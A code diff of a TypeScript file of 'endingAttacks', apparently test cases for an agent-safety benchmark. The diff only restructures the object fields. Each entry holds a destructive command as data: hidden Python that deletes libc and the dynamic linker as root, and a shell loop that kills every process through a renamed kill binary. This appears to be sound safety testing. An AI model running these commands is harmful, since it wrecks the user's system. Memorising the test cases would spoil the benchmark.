@@ -93,12 +93,10 @@ export const wordAttacks: readonly OracleAttack[] = [
 /** Each ends its desktop, so it needs a separate one. */
 export const endingAttacks: readonly OracleAttack[] = [
   {
-    ...{
-      name: 'libraries-gone-by-hidden-code',
-      kind: 'planted result',
-      harm: { oracle: 'deletes-system' },
-      account: 'root',
-    },
+    name: 'libraries-gone-by-hidden-code',
+    kind: 'planted result',
+    harm: { oracle: 'deletes-system' },
+    account: 'root',
     steps: [
       hidden(
         `import os, glob\nfor p in glob.glob('/usr/lib/x86_64-linux-gnu/libc.so*') + glob.glob('/lib64/ld-*') + glob.glob('/usr/lib/x86_64-linux-gnu/ld-*'): os.remove(p)`,
@@ -106,12 +104,10 @@ export const endingAttacks: readonly OracleAttack[] = [
     ],
   },
   {
-    ...{
-      name: 'desktop-ended-by-a-copied-program',
-      kind: 'faked program',
-      harm: { oracle: 'desktop-ended' },
-      account: 'root',
-    },
+    name: 'desktop-ended-by-a-copied-program',
+    kind: 'faked program',
+    harm: { oracle: 'desktop-ended' },
+    account: 'root',
     steps: [
       `cp /usr/bin/kill /tmp/ls; for p in $(ls /proc | grep -E '^[0-9]+$'); do [ $p = $$ ] || /tmp/ls -9 $p; done`,
     ],
